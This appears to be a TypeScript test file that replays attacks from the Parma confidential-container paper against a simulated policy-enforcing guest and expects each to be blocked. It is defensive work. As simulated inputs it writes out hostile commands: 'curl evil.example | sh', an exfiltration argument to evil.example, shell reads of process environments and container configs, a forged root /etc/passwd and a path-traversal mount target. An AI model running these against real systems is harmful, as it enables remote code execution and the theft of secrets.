/**
 * Goal: the attacks the Parma paper names (spec/policy.md a, "Attacks discussed"), each driven
 * through a world deploying the standard two-container group: a substituted layer, injected
 * environment variables, layers in the wrong order or mixed, arbitrary commands in the UVM or
 * in a container, an extra container or exec after the group obtained its secrets, a reused
 * mount point, and overwriting an attested directory through a plan9 share.
 * Method: the benign plan runs up to the step the attack changes; the hostile step is the
 * benign one with one thing changed (or a frame the shim never sends); the rest of the plan up
 * to the container's init process then shows whether the attack took effect. Relaxed runs
 * enforce an allow-all policy (HOST_DATA is its hash), so each attack proves it is real.
 * Expectations name the enforcement point and framework.rego's reason (spec c), not our output.
 */
import { assert } from '../../sim/kernel/assert.js';
import type { Json } from '../../sim/kernel/canonical-json.js';
import { UVM_CONTAINER_ID, gcsMessage } from '../../models/host/shim.js';
import { toHex } from '../../sim/kernel/bytes.js';
import { storeGet } from '../../models/host/content-store.js';
import { deviceBytes } from '../../models/host/storage.js';
import {
  decodeLayerFilesystem, mountLayer, statLayerPath,
} from '../../models/guest/layer-image.js';
import { imageTreeSpecOf } from '../../sim/world.js';
import { defineScenario, type Scenario } from '../dsl.js';
import type { ScenarioContext, WorldDriver } from '../context.js';
import {
  bodyOf, editCreate, editProcess, editSettings, withBody, type JsonObject,
} from '../host-actions.js';
import { TREES, standardWorkload } from '../workloads.js';

const ALLOW_ALL = [{ kind: 'allow-all-policy' }] as const;
const PAPER = 'Parma paper (arXiv 2302.03976), attacks discussed';

/** Runs the plan through the init process of `container` (that step included). */
export function runThroughInit(w: WorldDriver, container: string): void {
  w.runTo(`run the init process of ${container}`);
  w.runPlanned();
}

/** The store digest of an image the host adds (add_image), from the world's record. */
export function addImage(w: WorldDriver, tree: Parameters<typeof imageTreeSpecOf>[0]): string {
  const before = new Set(Object.keys(w.world.state.host.addedImages));
  w.act({ kind: 'add_image', tree: imageTreeSpecOf(tree) }, 'the host adds its own image');
  const added = Object.keys(w.world.state.host.addedImages).filter((d) => !before.has(d));
  assert(added.length <= 1, 'one image added');
  // An image already known to the store is recorded once; look it up by content then.
  return added[0] ?? Object.keys(w.world.state.host.addedImages)[0]!;
}

function substitutedLayer(ctx: ScenarioContext) {
  const w = ctx.world({ workload: standardWorkload() });
  const layer = ctx.choice.pick([1, 2, 3]);          // one of web's three layers
  const disk = w.runTo(`add layer disk layer${layer}`);
  assert(disk.kind === 'add_disk' && disk.spec.kind === 'layer', 'the planned layer disk');
  const evil = addImage(w, TREES.evil);
  w.act({ ...disk, spec: { kind: 'layer', image: evil } }, `layer${layer} holds the host's image`);
  w.skip();
  runThroughInit(w, 'web');
  return w.outcome(`web runs with the host's image as its layer ${layer}`);
}

function injectedEnv(ctx: ScenarioContext, dropping: boolean) {
  const w = ctx.world({ workload: standardWorkload({ id: dropping ? 'standard' : 'no-dropping',
    flags: { allowEnvironmentVariableDropping: dropping } }) });
  const create = w.runTo('create web');
  w.act(editCreate(create, (c) => { c.OciSpecification.process.env.push('LD_PRELOAD=/tmp/x.so'); }),
    'create web with LD_PRELOAD');
  w.skip();
  runThroughInit(w, 'web');
  const outcome = w.outcome('web runs with LD_PRELOAD');
  if (outcome.kind !== 'allowed') return outcome;
  const web = w.world.state.guest!.containers[w.ids['web']!];
  const env = web?.context.config?.env ?? [];
  if (env.includes('LD_PRELOAD=/tmp/x.so')) return outcome;
  return { kind: 'blocked' as const, layer: 'policy' as const, rule: 'create_container',
    check: null, code: null,
    reason: 'LD_PRELOAD dropped: create_container returned an env_list without it' };
}

function layersOf(action: ReturnType<WorldDriver['runTo']>): JsonObject[] {
  const settings = (bodyOf(action)['Request'] as JsonObject)['Settings'] as JsonObject;
  return settings['Layers'] as JsonObject[];
}

function combineWeb(ctx: ScenarioContext, edit: (layers: JsonObject[]) => JsonObject[],
  note: string) {
  const w = ctx.world({ workload: standardWorkload() });
  const combine = w.runTo('combine layers for web');
  assert(layersOf(combine).length === 3, 'web has three layers, top first');
  w.act(editSettings(combine, (s) => { s['Layers'] = edit(s['Layers'] as JsonObject[]) as Json; }),
    note);
  w.skip();
  runThroughInit(w, 'web');
  return w.outcome(`web runs on the overlay: ${note}`);
}

/** The host rewrites /etc/passwd of web's base layer on its disk after the guest mounted it. */
function tamperedLayer(ctx: ScenarioContext) {
  const w = ctx.world({ workload: standardWorkload() });
  const create = w.runTo('create web');
  const disk = w.world.state.host.storage.disks['layer1'];
  assert(disk !== undefined && disk.kind === 'layer', 'web\'s base layer disk');
  const image = storeGet(w.world.store, disk.image)!;
  const passwd = statLayerPath(mountLayer(image), '/etc/passwd');
  assert(passwd !== undefined && passwd.kind === 'file', 'the base layer has /etc/passwd');
  const forged = new TextEncoder().encode('root:x:0:0::/:/bin/sh\nweb:x:0:0::/:/bin/sh\n');
  const block = new Uint8Array(4096);
  block.set(forged);
  w.act({ kind: 'tamper_block', disk: 'layer1', block: passwd.firstBlock,
    bytes: toHex(block) }, 'rewrite /etc/passwd: web is uid 0');
  const device = deviceBytes(w.world.state.host.storage, w.world.store, 2);
  assert(!(device instanceof Uint8Array) || device.length > 0, 'the device at LUN 2');
  const unchecked = device instanceof Uint8Array
    ? decodeLayerFilesystem(device)['/etc/passwd'] : undefined;
  ctx.emit('host', 'unchecked_view', { path: '/etc/passwd', content: unchecked?.kind === 'file'
    ? new TextDecoder().decode(unchecked.content).split('\n')[1] ?? '' : null });
  w.act(create, 'create web (the guest reads its /etc/passwd)');
  return w.outcome('web is created with the host\'s /etc/passwd (web as uid 0)');
}

function otherCommand(ctx: ScenarioContext) {
  const w = ctx.world({ workload: standardWorkload() });
  const create = w.runTo('create web');
  const argv = ctx.choice.pick([['/bin/sh', '-c', 'curl evil.example | sh'],
    ['/usr/bin/web', '--port', '80', '--debug-shell']]);
  w.act(editCreate(create, (c) => { c.OciSpecification.process.args = argv; }),
    `create web running ${argv.join(' ')}`);
  w.skip();
  runThroughInit(w, 'web');
  return w.outcome(`web runs ${argv.join(' ')}`);
}

function externalProcess(ctx: ScenarioContext) {
  const w = ctx.world({ workload: standardWorkload() });
  w.runTo('exec probe');
  w.act({ kind: 'bridge', message: gcsMessage('ExecuteProcess', UVM_CONTAINER_ID, {
    Settings: { ProcessParameters: JSON.stringify({ CommandArgs: ['/bin/sh', '-c',
      'cat /run/gcs/c/*/config.json'], WorkingDirectory: '/', CreateInUtilityVM: true,
    CreateStdOutPipe: true }) } }, 900) }, 'a shell in the UVM, outside every container');
  return w.outcome('a shell runs in the UVM');
}

function execAfterRelease(ctx: ScenarioContext) {
  const w = ctx.world({ workload: standardWorkload() });
  const probe = w.runTo('exec probe ["/usr/bin/web","--health"] in web');
  w.runTo('shut side down');   // the group runs: its secrets are released (issue 9's flow)
  w.act(editProcess(probe, (p) => {
    p.OciProcess!.args = ['/bin/sh', '-c', 'cat /proc/1/environ'];
  }),
    'exec a shell in web');
  return w.outcome('a shell runs in web after the group obtained its secrets');
}

function extraContainer(ctx: ScenarioContext) {
  const w = ctx.world({ workload: standardWorkload() });
  const combine = w.runTo('combine layers for side');
  const createSide = w.runTo('create side');
  w.runTo('shut side down');
  const id = 'e1'.repeat(32);
  const root = `/run/gcs/c/${id}/rootfs`;
  const sandbox = w.ids['pause']!;
  w.act(editSettings(combine, (s) => {
    s['ContainerID'] = id; s['ContainerRootPath'] = root;
    s['ScratchPath'] = `/run/gcs/c/${sandbox}/scratch/${id}`;
  }), 'an overlay for an extra container, from the sidecar\'s layers');
  const create = editCreate(createSide, (c) => {
    c.OciBundlePath = `/run/gcs/c/${id}`; c.ScratchDirPath = `/run/gcs/c/${sandbox}/scratch/${id}`;
    c.OciSpecification.root.path = root;
    c.OciSpecification.process.args = ['/bin/side', '--exfiltrate', 'https://evil.example'];
  });
  const body = bodyOf(create);
  body['ContainerId'] = id;
  w.act(withBody(create, body), 'create the extra container');
  w.act({ kind: 'bridge', message: gcsMessage('Start', id, {}, 901) }, 'start it');
  return w.outcome('an extra container runs beside the group');
}

function reusedMountPoint(ctx: ScenarioContext) {
  const w = ctx.world({ workload: standardWorkload() });
  const lib = w.runTo('mount layer');   // the pause layer at m0
  w.runTo('add layer disk layer4');     // the group's pause and web run; side's layer is next
  w.runPlanned();
  w.runPlanned();                       // layer4 attached at LUN 5
  const sideMount = w.peek().action;
  w.act(editSettings(lib, (s) => { s['MountPath'] = '/run/mounts/scsi/m2'; s['Lun'] = 2; },
    'Remove'), 'unmount web\'s base layer (m2) while web runs');
  w.act(editSettings(sideMount, (s) => { s['MountPath'] = '/run/mounts/scsi/m2'; }),
    'mount the sidecar\'s layer at m2');
  return w.outcome('web\'s overlay now reads the sidecar\'s layer at m2');
}

function plan9Overwrite(ctx: ScenarioContext) {
  const w = ctx.world({ workload: standardWorkload() });
  w.runTo('create web');
  const web = w.ids['web']!;
  const target = `/run/gcs/c/${web}/mounts/m1/../../rootfs/usr/bin`;
  w.act({ kind: 'bridge', message: { type: 0x10100a01, id: 902, message: {
    ContainerId: UVM_CONTAINER_ID, ActivityId: UVM_CONTAINER_ID,
    Request: { ResourceType: 'MappedDirectory', RequestType: 'Add',
      Settings: { MountPath: target, ShareName: 'bin', Port: 564, ReadOnly: true } } } } },
  'a plan9 share over web\'s /usr/bin');
  runThroughInit(w, 'web');
  return w.outcome('the host\'s share covers an attested directory of web');
}

export const PAPER_SCENARIOS: readonly Scenario[] = [
  defineScenario({
    name: 'substituted-layer', group: 'paper', kind: 'attack', tags: ['layers', 'dm-verity'],
    threat: { summary: 'the host attaches its own image in place of one of web\'s layers',
      references: [`${PAPER} 1`] },
    expected: { kind: 'blocked', layer: 'policy', rule: 'mount_device',
      reason: 'deviceHash not found' },
    defence: { summary: 'mount_device: the root hash the guest reads from the device must be a '
      + 'layer of a policy container', relax: ALLOW_ALL },
    body: substitutedLayer,
  }),
  defineScenario({
    name: 'tampered-layer-block', group: 'paper', kind: 'attack', tags: ['layers', 'dm-verity'],
    threat: { summary: 'after the guest mounted web\'s base layer, the host rewrites the block '
      + 'holding its /etc/passwd on the disk', references: [`${PAPER} 1`, 'issue 8'] },
    expected: { kind: 'blocked', layer: 'verity', code: 'GUEST_VERITY_READ_ERROR',
      reason: 'read error' },
    defence: { summary: 'every read goes through dm-verity under the root hash taken at mount',
      relax: [{ kind: 'unchecked-reads', what: 'a guest that reads layers without dm-verity '
        + '(the world has no switch: the read error is not counted, and the trace shows the '
        + 'bytes an unchecked read returns)' }] },
    body: tamperedLayer,
  }),
  defineScenario({
    name: 'injected-env', group: 'paper', kind: 'attack', tags: ['env'],
    threat: { summary: 'the host adds LD_PRELOAD to web\'s environment (dropping off)',
      references: [`${PAPER} 2`] },
    expected: { kind: 'blocked', layer: 'policy', rule: 'create_container',
      reason: 'invalid env list' },
    defence: { summary: 'create_container: every variable must match an env rule',
      relax: ALLOW_ALL },
    body: (ctx) => injectedEnv(ctx, false),
  }),
  defineScenario({
    name: 'injected-env-dropped', group: 'paper', kind: 'attack', tags: ['env'],
    threat: { summary: 'the host adds LD_PRELOAD to web\'s environment (dropping allowed)',
      references: [`${PAPER} 2`, 'spec/policy.md (c) env dropping'] },
    expected: { kind: 'blocked', layer: 'policy', rule: 'create_container',
      reason: 'LD_PRELOAD dropped' },
    defence: { summary: 'create_container drops the variables no rule allows',
      relax: ALLOW_ALL },
    body: (ctx) => injectedEnv(ctx, true),
  }),
  defineScenario({
    name: 'wrong-layer-order', group: 'paper', kind: 'attack', tags: ['layers', 'overlay'],
    threat: { summary: 'the host combines web\'s layers in the reverse order',
      references: [`${PAPER} 3`] },
    expected: { kind: 'blocked', layer: 'policy', rule: 'mount_overlay',
      reason: 'no matching containers for overlay' },
    defence: { summary: 'mount_overlay: the ordered layer hashes must be a policy container\'s',
      relax: ALLOW_ALL },
    body: (ctx) => combineWeb(ctx, (layers) => [...layers].reverse(), 'layers reversed'),
  }),
  defineScenario({
    name: 'mixed-layers', group: 'paper', kind: 'attack', tags: ['layers', 'overlay'],
    threat: { summary: 'the host mixes the pause image\'s layer into web\'s overlay',
      references: [`${PAPER} 3`] },
    expected: { kind: 'blocked', layer: 'policy', rule: 'mount_overlay',
      reason: 'no matching containers for overlay' },
    defence: { summary: 'mount_overlay: the ordered layer hashes must be a policy container\'s',
      relax: ALLOW_ALL },
    body: (ctx) => combineWeb(ctx, (layers) => [...layers, { Path: '/run/mounts/scsi/m0' }],
      'the pause layer mixed in below web\'s'),
  }),
  defineScenario({
    name: 'other-command', group: 'paper', kind: 'attack', tags: ['command'],
    threat: { summary: 'the host creates web with a command of its own',
      references: [`${PAPER} 4`] },
    expected: { kind: 'blocked', layer: 'policy', rule: 'create_container',
      reason: 'invalid command' },
    defence: { summary: 'create_container: argv must equal the policy container\'s command',
      relax: ALLOW_ALL },
    body: otherCommand,
  }),
  defineScenario({
    name: 'shell-in-uvm', group: 'paper', kind: 'attack', tags: ['command', 'exec'],
    threat: { summary: 'the host runs a shell in the UVM, outside every container',
      references: [`${PAPER} 4`] },
    expected: { kind: 'blocked', layer: 'policy', rule: 'exec_external',
      reason: 'invalid command' },
    defence: { summary: 'exec_external: only the policy\'s external processes run',
      relax: ALLOW_ALL },
    body: externalProcess,
  }),
  defineScenario({
    name: 'exec-after-key-release', group: 'paper', kind: 'attack', tags: ['exec'],
    threat: { summary: 'after the group obtained its secrets, the host execs a shell in web',
      references: [`${PAPER} 5`] },
    expected: { kind: 'blocked', layer: 'policy', rule: 'exec_in_container',
      reason: 'invalid command' },
    defence: { summary: 'exec_in_container: only the container\'s exec_processes run',
      relax: ALLOW_ALL },
    body: execAfterRelease,
  }),
  defineScenario({
    name: 'extra-container', group: 'paper', kind: 'attack', tags: ['command'],
    threat: { summary: 'after the group runs, the host starts an extra container of its own',
      references: [`${PAPER} 5`] },
    expected: { kind: 'blocked', layer: 'policy', rule: 'create_container',
      reason: 'invalid command' },
    defence: { summary: 'create_container: an extra container must still be a policy container',
      relax: ALLOW_ALL },
    body: extraContainer,
  }),
  defineScenario({
    name: 'reused-mount-point', group: 'paper', kind: 'attack', tags: ['layers'],
    threat: { summary: 'the host unmounts one of web\'s layers under the running container and '
      + 'mounts another listed layer at the same mount point',
      references: [`${PAPER} 6`] },
    expected: { kind: 'blocked', layer: 'state', check: 'unmount_in_use',
      reason: 'in use' },
    defence: { summary: 'the GCS does not unmount a layer an overlay uses (its mount point '
      + 'stays taken)', relax: [{ kind: 'agent-check', check: 'unmount_in_use' }] },
    history: { fix: '3f1758f95', expected: { kind: 'allowed' } },
    body: reusedMountPoint,
  }),
  defineScenario({
    name: 'plan9-over-attested-dir', group: 'paper', kind: 'attack', tags: ['plan9'],
    threat: { summary: 'the host mounts a plan9 share over web\'s /usr/bin (a path traversal '
      + 'behind the share prefix)',
    references: [`${PAPER} 7`, 'confcom docs: policy_enforcement_points.md', 'hcsshim df52d6665'] },
    expected: { kind: 'blocked', layer: 'policy', rule: 'plan9_mount',
      reason: 'is not /run/gcs/c/<containerID>' },
    defence: { summary: 'plan9_mount: the target is exactly /run/gcs/c/<id>/mounts/m<N> '
      + '(anchored)', relax: ALLOW_ALL },
    history: { fix: 'df52d6665', expected: { kind: 'allowed' } },
    body: plan9Overwrite,
  }),
];

